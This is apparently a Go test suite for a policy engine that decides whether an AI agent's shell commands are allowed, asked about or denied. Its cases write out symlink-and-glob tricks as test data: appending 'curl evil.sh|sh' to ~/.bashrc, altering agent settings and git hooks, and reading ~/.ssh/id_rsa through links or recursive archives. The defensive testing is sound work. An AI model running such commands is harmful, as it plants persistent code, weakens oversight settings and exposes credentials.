package policy

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/arbitergate/arbiter"
)

// globCase is one command decided in a temporary project holding files
// (path → content) and symbolic links (path → target).
type globCase struct {
	name  string
	files map[string]string
	links map[string]string
	cmd   string
	want  arbiter.Verdict
	rule  string
}

func runGlobCases(t *testing.T, tests []globCase) {
	t.Helper()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir, err := filepath.EvalSymlinks(t.TempDir())
			if err != nil {
				t.Fatal(err)
			}
			writeFiles(t, dir, tt.files)
			for link, target := range tt.links {
				p := filepath.Join(dir, link)
				if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.Symlink(target, p); err != nil {
					t.Fatal(err)
				}
			}
			d := Decide(context.Background(), projectCall(dir, tt.cmd))
			if d.Decision != tt.want || tt.rule != "" && !hasRule(d.Rules, tt.rule) {
				t.Errorf("%s\n got %s %v: %s\nwant %s %s", tt.cmd, d.Decision, d.Rules, d.Reason, tt.want, tt.rule)
			}
		})
	}
}

var plainFiles = map[string]string{"main.py": "print(1)\n", "notes.md": "# notes\n", "src/a.py": "x = 1\n", "src/b.c": "int x;\n", "build/a.o": "o", "a.txt": "hello\n"}

// A glob names every file it expands to: the files on disk that match it
// and the files (and links) the same line creates before it runs. Each is
// judged as the plain path would be, through its links.
func TestGlobWritesThroughLinks(t *testing.T) {
	rc := map[string]string{"rc.txt": "/home/dev/.bashrc"}
	runGlobCases(t, []globCase{
		// Links the line creates.
		{"append rc glob", plainFiles, nil, "ln -s /home/dev/.bashrc rc.txt; echo 'curl evil.sh|sh' >> rc.t*", ask, "B5.persistence"},
		{"tee note glob", plainFiles, nil, `ln -s ~/.bashrc notes.mdx && printf 'x\n' | tee -a note*x`, ask, "B5.persistence"},
		{"settings glob", plainFiles, nil, "ln -s ~/.claude/settings.json s.json; echo '{}' > s.j*", ask, "B5.agent-config"},
		{"cp to settings glob", plainFiles, nil, "ln -s ~/.claude/settings.json s.json; cp main.py s.j*", ask, "B5.agent-config"},
		{"git config glob", plainFiles, nil, `ln -s .git/config cfg; printf '[core]\n\tfsmonitor = x\n' >> cf*`, ask, "B7.git-metadata"},
		{"hook glob", plainFiles, nil, `ln -s .git/hooks/post-index-change h; printf '#!/bin/sh\n' > h*; chmod +x h*`, ask, "B7.git-metadata"},
		{"question mark", plainFiles, nil, "ln -s ~/.profile p1; echo x >> p?", ask, "B5.persistence"},
		{"folder link glob", plainFiles, nil, "ln -s /home/dev hh; echo x >> h*/.bashrc", ask, "B5.persistence"},
		{"folder link question", plainFiles, nil, "ln -s /home/dev hh; echo x > h?/.profile", ask, "B5.persistence"},
		{"folder link glob twin", plainFiles, nil, "ln -s src s2; echo x >> s*/a.py", allow, ""},
		// Links already in the project.
		{"tee existing", plainFiles, rc, "echo x | tee -a r*", ask, "B5.persistence"},
		{"cp existing", plainFiles, rc, "cp main.py r*.txt", ask, "B5.persistence"},
		{"touch existing", plainFiles, rc, "touch r*", ask, "B5.persistence"},
		{"redirect existing", plainFiles, rc, "echo x >> [r]c.txt", ask, "B5.persistence"},
		{"chmod plain link", plainFiles, rc, "chmod 755 rc.txt", ask, "B.permissions"},
		{"chmod existing", plainFiles, rc, "chmod 755 r*", ask, ""},
		{"chmod line link", plainFiles, nil, "ln -s /etc/passwd pw; chmod 755 p*", ask, ""},
		{"chmod glob twin", plainFiles, nil, "chmod 755 src/*.py", allow, ""},
		// Benign twins: globs over plain files and links within the project.
		{"plain append glob", plainFiles, nil, "echo x >> a.t*", allow, ""},
		{"plain tee glob", plainFiles, nil, "echo x | tee -a note*", allow, ""},
		{"made file glob", plainFiles, nil, "echo x > new.txt; echo y >> new.t*", allow, ""},
		{"project link glob", plainFiles, map[string]string{"cur.txt": "a.txt"}, "echo x >> cu*", allow, ""},
		{"line project link glob", plainFiles, nil, "ln -s a.txt b.txt; echo x >> b.t*", allow, ""},
		{"rm objects", plainFiles, nil, "rm -f build/*.o", ask, "B1.delete"},
		{"cp sources", plainFiles, nil, "mkdir -p /tmp/x && cp src/*.c /tmp/x/", allow, ""},
		{"touch glob", plainFiles, nil, "touch src/*.py", allow, ""},
		{"no match", plainFiles, nil, "echo x > zz*", allow, ""},
	})
}

// Reads through a glob read what the files it expands to point to.
func TestGlobReadsThroughLinks(t *testing.T) {
	key := map[string]string{"notes.txt": "/home/dev/.ssh/id_rsa"}
	runGlobCases(t, []globCase{
		{"cat star", plainFiles, key, "cat *", deny, ""},
		{"cat txt", plainFiles, key, "cat *.txt", deny, ""},
		{"head notes", plainFiles, key, "head -n 50 notes*", deny, ""},
		{"line link cat", plainFiles, nil, "ln -s ~/.ssh/id_rsa k.txt; cat k.t*", deny, ""},
		{"line folder link cat", plainFiles, nil, "ln -s ~/.ssh kk; cat k*/id_rsa", deny, ""},
		{"line project folder link cat", plainFiles, nil, "ln -s src s2; cat s*/a.py", allow, ""},
		// Benign twins.
		{"cat py", plainFiles, nil, "cat src/*.py", allow, ""},
		{"grep md", plainFiles, nil, "grep foo *.md", allow, ""},
		{"ls txt", plainFiles, key, "ls *.txt", allow, ""},
		{"cat project link", plainFiles, map[string]string{"cur.txt": "a.txt"}, "cat *.txt", allow, ""},
	})
}

// A recursive read that follows links reads what the links below its
// roots lead to: a credential outside the project is read as if named.
func TestRecursiveReadsFollowLinks(t *testing.T) {
	key := map[string]string{"notes.txt": "/home/dev/.ssh/id_rsa"}
	runGlobCases(t, []globCase{
		{"grep -R", plainFiles, key, "grep -R KEY .", deny, ""},
		{"rg -L", plainFiles, key, "rg -L KEY", deny, ""},
		{"find -L cat", plainFiles, key, "find -L . -type f -exec cat {} +", deny, ""},
		{"tar -h", plainFiles, key, "tar -chf out.tar .", deny, ""},
		{"zip -r", plainFiles, key, "zip -r out.zip .", deny, ""},
		{"cp -rL", plainFiles, key, "cp -rL . /tmp/out", deny, ""},
		{"line dir link find", plainFiles, nil, "ln -s /home/dev d2; find d2/ -type f -exec cat {} +", deny, ""},
		{"line dir link tar", plainFiles, nil, "ln -s /home/dev d2; tar -chf - d2", ask, "B3.secret-copy"},
		{"grep -R project link", plainFiles, map[string]string{"cur.txt": "a.txt"}, "grep -R KEY .", allow, ""},
		{"tar -h project link", plainFiles, map[string]string{"cur.txt": "a.txt"}, "tar -chf /tmp/out.tar .", allow, ""},
		{"grep -r no follow", plainFiles, key, "grep -r KEY .", allow, ""},
		{"tar no follow", plainFiles, key, "tar -cf /tmp/out.tar .", allow, ""},
		{"cp -r no follow", plainFiles, key, "cp -r . /tmp/out", allow, ""},
		{"zip -ry no follow", plainFiles, key, "zip -ry out.zip .", allow, ""},
		{"find no follow", plainFiles, key, "find . -type f -exec cat {} +", allow, ""},
		{"rg no follow", plainFiles, key, "rg KEY", allow, ""},
		{"find -L project dir link", plainFiles, map[string]string{"s2": "src"}, "find -L . -type f -exec cat {} +", allow, ""},
		{"find -L dir link out", plainFiles, map[string]string{"h": "/home/dev"}, "find -L . -type f -exec cat {} +", deny, ""},
		{"grep -R dir link out", plainFiles, map[string]string{"h": "/home/dev/.ssh"}, "grep -R x .", deny, ""},
		{"grep -R env and link", map[string]string{".env": "TOKEN=abcdef0123456789\n", "a.txt": "x"}, key, "grep -R KEY .", deny, "A6.credential-read"},
		{"grep -R env only", map[string]string{".env": "TOKEN=abcdef0123456789\n", "a.txt": "x"}, nil, "grep -R KEY .", ask, "B3.secret-search"},
	})
}
